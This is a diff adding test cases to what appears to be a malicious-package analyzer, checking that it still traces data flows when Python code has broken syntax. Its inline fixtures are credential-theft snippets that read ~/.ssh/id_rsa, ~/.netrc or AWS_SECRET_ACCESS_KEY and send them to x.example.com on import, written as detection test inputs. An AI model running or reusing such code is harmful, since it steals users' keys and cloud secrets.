@@ -35,6 +35,74 @@ describe("Python 2 and broken code", () => {
     expect(facts.filesAnalyzed).toBe(2);
   });
 
+  it("recovers the statements around a broken line that swallows the rest of the file", async () => {
+    // A decompiler's stray `else:` at the top of the file: tree-sitter alone turns
+    // everything after it into one ERROR node and the flow below is lost.
+    const facts = await analyze({
+      "pkg/__init__.py": `
+        import os, requests
+        try:
+            import json
+        except ImportError:
+            pass
+                else:  # inserted
+            json = None
+
+        class Grabber:
+            def __init__(self):
+                self.url = "https://x.example.com/c"
+
+            def run(self):
+                with open(os.path.expanduser("~/.ssh/id_rsa")) as fh:
+                    key = fh.read()
+                for attempt in range(3):
+                    try:
+                        requests.post(self.url, data=key)
+                    except Exception:
+                        pass
+                            else:  # inserted
+                        break
+
+        Grabber().run()
+      `,
+    });
+    expect(flowsOf(facts)).toEqual(["ssh-key@pkg/__init__.py:14 -> http@pkg/__init__.py:18 https://x.example.com/c [import]"]);
+    // Still reported as not fully read, naming the lines that were not.
+    expect(facts.parseProblems).toHaveLength(1);
+    expect(facts.parseProblems[0]!.message).toMatch(/^syntax error at line \d+, column \d+; lines 5-6, 20-21 not analyzed/);
+  });
+
+  it("recovery keeps a function whose signature parses and whose body has a broken statement", async () => {
+    const facts = await analyze({
+      "pkg/__init__.py": `
+        import os, urllib.request
+        def send(data):
+            x = = 1
+            urllib.request.urlopen("https://x.example.com/u", data)
+        send(os.environ["AWS_SECRET_ACCESS_KEY"].encode())
+      `,
+    });
+    expect(flowsOf(facts)).toEqual(["env-secret@pkg/__init__.py:5 -> http@pkg/__init__.py:4 https://x.example.com/u [import]"]);
+    expect(facts.parseProblems[0]!.message).toContain("line 3 not analyzed");
+  });
+
+  it("recovery invents no flow: broken code between a read and an unrelated send stays unrelated", async () => {
+    const facts = await analyze({
+      "pkg/__init__.py": `
+        import os, requests
+        def show():
+            print(open(os.path.expanduser("~/.netrc")).read())
+                else:
+        def ping():
+            requests.get("https://x.example.com/ping")
+        show()
+        ping()
+      `,
+    });
+    expect(flowsOf(facts)).toEqual([]);
+    expect(facts.sinks.map((s) => s.destination)).toEqual(["https://x.example.com/ping"]);
+  });
+
   it("survives deep nesting, huge literals and recursion", async () => {
     const deep = "x = " + "(".repeat(3000) + "1" + ")".repeat(3000) + "\n";
     const list = "y = [" + Array.from({ length: 50000 }, (_, i) => i).join(", ") + "]\n";
